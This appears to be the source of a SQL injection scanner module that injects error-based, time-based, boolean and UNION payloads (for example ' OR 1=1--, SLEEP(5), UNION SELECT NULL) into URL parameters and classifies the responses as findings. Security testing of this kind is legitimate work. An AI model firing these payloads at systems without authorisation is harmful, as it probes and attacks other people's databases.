"""
SQLiDetect - Lightweight SQL injection detection

Techniques, per query parameter:
- Error-based: database error fingerprints in the response
- Time-based: induced SLEEP / WAITFOR / pg_sleep delays
- Boolean-based: true/false condition pair against a plain baseline
- UNION-based: response changes under UNION SELECT payloads
"""

from dataclasses import replace
from typing import Dict, List, Optional, Tuple
from urllib.parse import parse_qsl, urlencode, urlsplit

from tryharder.engine.classifier import classify, first_family, scan_limit
from tryharder.engine.comparator import INDUCED_DELAY_MS, boolean_pair_signal, compare, timing_signal
from tryharder.engine.models import Finding, FindingKind, ProbeDescriptor, ProbePurpose, Severity
from tryharder.tools.base import BaseTool, RunContext


ERROR_PAYLOADS = [
    "'", "\"", "' OR '1'='1", "\" OR \"1\"=\"1", "' OR 1=1--",
    "' AND '1'='2", "1' ORDER BY 1--", "1' ORDER BY 100--",
    "') OR ('1'='1", "';SELECT SLEEP(0)--", "'||(SELECT '')||'",
    "' UNION SELECT NULL--", "' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version())))--"
]

TIME_PAYLOADS = [
    "' AND SLEEP(5)--", "' OR SLEEP(5)--", "'; WAITFOR DELAY '0:0:5'--",
    "' AND (SELECT * FROM (SELECT(SLEEP(5)))a)--",
    "1' AND (SELECT SLEEP(5))--", "' OR (SELECT SLEEP(5))--",
    "';SELECT pg_sleep(5)--", "' || pg_sleep(5)--"
]

UNION_PAYLOADS = [
    "' UNION SELECT NULL--", "' UNION SELECT NULL,NULL--",
    "' UNION SELECT NULL,NULL,NULL--", "' UNION ALL SELECT NULL--",
    "' UNION SELECT 1,2,3--", "' UNION SELECT @@version,NULL--"
]

TRUE_CONDITION = "' AND '1'='1"
FALSE_CONDITION = "' AND '1'='2"

TIME_PAYLOAD_COUNT = 3
TIME_PROBE_TIMEOUT_MS = 15000

# Stages that stop at the first hit for a parameter
FIRST_HIT_STAGES = ('error', 'time', 'union')


def parse_params(url: str) -> List[Tuple[str, str]]:
    """Query parameters in order, first value per name."""
    seen: Dict[str, str] = {}
    for name, value in parse_qsl(urlsplit(url).query, keep_blank_values=True):
        seen.setdefault(name, value)
    return list(seen.items())


def build_test_url(url: str, param: str, value: str) -> str:
    """The URL with one parameter set to ``value`` and the rest untouched."""
    parts = urlsplit(url)
    pairs = []
    replaced = False
    for name, original in parse_qsl(parts.query, keep_blank_values=True):
        if name == param:
            if replaced:
                continue
            pairs.append((name, value))
            replaced = True
        else:
            pairs.append((name, original))
    return f"{parts.scheme}://{parts.netloc}{parts.path}?{urlencode(pairs)}"


class SQLiDetect(BaseTool):
    """SQL injection detection over the query string."""

    name = 'sqlidetect'
    title = 'SQLiDetect'
    description = 'Lightweight SQL injection detection'
    defaults = {'errorBased': True, 'timeBased': False, 'boolBased': True, 'union': True}
    signature_category = 'sql_errors'
    baseline_name = 'plain'

    async def prepare(self, ctx: RunContext):
        params = parse_params(ctx.target)
        if not params:
            ctx.abort('No parameters found in URL')
            return
        ctx.state['params'] = params
        ctx.state['hits'] = set()
        ctx.state['pairs'] = {}

        baseline = await ctx.capture('plain', ctx.target)
        if not baseline.reachable:
            ctx.abort('target unreachable')

    def candidates(self, ctx: RunContext) -> List[ProbeDescriptor]:
        options = ctx.options
        probes = []

        for param, original in ctx.state['params']:
            if options.get('errorBased'):
                for payload in ERROR_PAYLOADS:
                    probes.append((param, payload, 'error', None))

            if options.get('timeBased'):
                for payload in TIME_PAYLOADS[:TIME_PAYLOAD_COUNT]:
                    probes.append((param, payload, 'time', TIME_PROBE_TIMEOUT_MS))

            if options.get('boolBased'):
                probes.append((param, original + TRUE_CONDITION, 'bool-true', None))
                probes.append((param, original + FALSE_CONDITION, 'bool-false', None))

            if options.get('union'):
                for payload in UNION_PAYLOADS:
                    probes.append((param, payload, 'union', None))

        return self._merge(ctx, probes)

    @staticmethod
    def _merge(ctx: RunContext, probes) -> List[ProbeDescriptor]:
        """
        One descriptor per distinct URL, carrying every stage that needs it.

        An empty parameter value makes the false condition identical to an
        error payload; both stages then read the same response.
        """
        merged: Dict[str, dict] = {}
        for param, payload, stage, timeout_ms in probes:
            url = build_test_url(ctx.target, param, payload)
            entry = merged.setdefault(url, {'param': param, 'timeout': None, 'stages': []})
            if timeout_ms is not None:
                entry['timeout'] = max(entry['timeout'] or 0, timeout_ms)
            entry['stages'].append((stage, payload))

        return [
            ProbeDescriptor(
                url=url,
                purpose=ProbePurpose.PAYLOAD_INJECTION,
                timeout_ms=entry['timeout'],
                meta={'param': entry['param'], 'stages': tuple(entry['stages'])}
            )
            for url, entry in merged.items()
        ]

    def should_skip(self, ctx: RunContext, descriptor: ProbeDescriptor) -> bool:
        param = descriptor.meta['param']
        return all(self._settled(ctx, param, stage) for stage, _ in descriptor.meta['stages'])

    @staticmethod
    def _settled(ctx: RunContext, param: str, stage: str) -> bool:
        return stage in FIRST_HIT_STAGES and (param, stage) in ctx.state['hits']

    def evaluate(self, ctx: RunContext, descriptor: ProbeDescriptor, response) -> List[Finding]:
        param = descriptor.meta['param']
        diff = compare(response, ctx.baselines.get(self.baseline_name))
        matches = set()
        if response.success:
            matches = ctx.registry.match(self.signature_category, response.body, scan_limit(response))

        findings = []
        for stage, payload in descriptor.meta['stages']:
            if self._settled(ctx, param, stage):
                continue
            staged = replace(descriptor, meta={'param': param, 'payload': payload, 'stage': stage})
            finding = classify(self, staged, response, diff, matches, ctx)
            if finding:
                findings.append(finding)
        return findings

    def classify(self, descriptor, response, diff, matches, ctx) -> Optional[Finding]:
        param = descriptor.meta['param']
        payload = descriptor.meta['payload']
        stage = descriptor.meta['stage']

        if stage == 'error':
            if not response.success or not response.body or not matches:
                return None
            ordered = [s.id for s in ctx.registry.signatures(self.signature_category)]
            signature = ctx.registry.get(self.signature_category, first_family(matches, ordered))
            ctx.state['hits'].add((param, stage))
            return self.create_finding(
                FindingKind.VULNERABILITY,
                f"SQL Injection (Error-Based) - {param}",
                descriptor.url,
                Severity.CRITICAL,
                f"Database: {signature.family}",
                param=param,
                payload=payload,
                dbType=signature.family,
                type='error-based'
            )

        if stage == 'time':
            # Elapsed time counts even when the request itself timed out
            if not timing_signal(response.elapsed_ms, INDUCED_DELAY_MS):
                return None
            ctx.state['hits'].add((param, stage))
            return self.create_finding(
                FindingKind.VULNERABILITY,
                f"SQL Injection (Time-Based) - {param}",
                descriptor.url,
                Severity.CRITICAL,
                f"Response delayed by {round(response.elapsed_ms / 1000)}s",
                param=param,
                payload=payload,
                elapsed=response.elapsed_ms,
                type='time-based'
            )

        if stage in ('bool-true', 'bool-false'):
            # Either half may arrive first when it shares a request with another stage
            pair = ctx.state['pairs'].setdefault(param, {})
            pair[stage] = (descriptor.url, response)
            if len(pair) < 2:
                return None
            return self._classify_pair(ctx, param, ctx.state['pairs'].pop(param))

        if stage == 'union':
            if not response.success or not response.body:
                return None
            has_indicator = 'null' in response.body.lower() or not matches
            if not has_indicator or response.length == ctx.baselines['plain'].length:
                return None
            ctx.state['hits'].add((param, stage))
            return self.create_finding(
                FindingKind.WARNING,
                f"Potential UNION SQLi - {param}",
                descriptor.url,
                Severity.MEDIUM,
                'UNION query may be exploitable',
                param=param,
                payload=payload,
                type='union-based'
            )

        return None

    def _classify_pair(self, ctx: RunContext, param: str, pair) -> Optional[Finding]:
        true_url, true_response = pair['bool-true']
        _, false_response = pair['bool-false']
        if not (true_response.success and false_response.success):
            return None

        true_length = true_response.length
        false_length = false_response.length
        if not boolean_pair_signal(true_length, false_length, ctx.baselines['plain'].length):
            return None

        length_diff = abs(true_length - false_length)
        return self.create_finding(
            FindingKind.VULNERABILITY,
            f"SQL Injection (Boolean-Based) - {param}",
            true_url,
            Severity.HIGH,
            f"Length difference: {length_diff} bytes",
            param=param,
            trueLength=true_length,
            falseLength=false_length,
            lengthDiff=length_diff,
            type='boolean-based'
        )
